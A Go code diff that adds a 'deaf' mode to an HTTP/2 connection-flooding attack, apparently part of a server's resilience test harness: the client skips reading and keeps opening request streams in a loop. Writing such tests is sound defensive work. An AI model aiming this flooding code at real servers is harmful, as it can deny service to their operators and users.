@@ -26,26 +26,37 @@ const (
 // half is a message of 60 KB of gRPC of which as much came as a stream may send.
 var half = "\x00" + string(binary.BigEndian.AppendUint32(nil, 60_000)) + strings.Repeat("x", 16_000)
 
-// streams is an attack by requests of HTTP/2 on one connection, whose client reads no answers: its window is 0.
+// streams is an attack by requests of HTTP/2 on one connection, whose client reads no answers: its window is 0, or it reads nothing at all.
 type streams struct {
 	method, path string
 	header       int    // bytes of one header field
 	body         string // sent with each request
 	whole        bool   // and ends it
+	deaf         bool   // the client reads nothing, and asks again and again
 }
 
 // attack sends the requests, and answers what asks for a sign of life until the connection ends.
 func (s streams) attack(c net.Conn) error {
 	framer := http2.NewFramer(c, c)
 	err := send(c, http2.ClientPreface)
-	if err = errors.Join(err, framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize})); err != nil {
+	var settings []http2.Setting
+	if !s.deaf {
+		settings = append(settings, http2.Setting{ID: http2.SettingInitialWindowSize})
+	}
+	if err = errors.Join(err, framer.WriteSettings(settings...)); err != nil {
+		return err
+	}
+	if s.deaf {
+		for first := 0; err == nil; first += manyStreams {
+			err = s.send(framer, first)
+		}
 		return err
 	}
 	sent := make(chan error, 1)
 	ready := make(chan struct{}, 1)
 	go func() {
 		<-ready
-		sent <- s.send(framer)
+		sent <- s.send(framer, 0)
 	}()
 	defer func() { // it may write still
 		_ = c.Close()
@@ -81,8 +92,8 @@ func (s streams) attack(c net.Conn) error {
 	}
 }
 
-// send sends the requests.
-func (s streams) send(framer *http2.Framer) error {
+// send sends the requests. As many were sent before.
+func (s streams) send(framer *http2.Framer, before int) error {
 	var header bytes.Buffer
 	encoder := hpack.NewEncoder(&header)
 	method := s.method
@@ -100,7 +111,7 @@ func (s streams) send(framer *http2.Framer) error {
 		for _, f := range fields {
 			_ = encoder.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // into memory
 		}
-		block, stream := header.Bytes(), uint32(2*i+1)
+		block, stream := header.Bytes(), uint32(2*(before+i)+1)
 		err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block, EndHeaders: true, EndStream: s.whole && s.body == ""})
 		if s.body != "" {
 			err = errors.Join(err, framer.WriteData(stream, s.whole, []byte(s.body)))
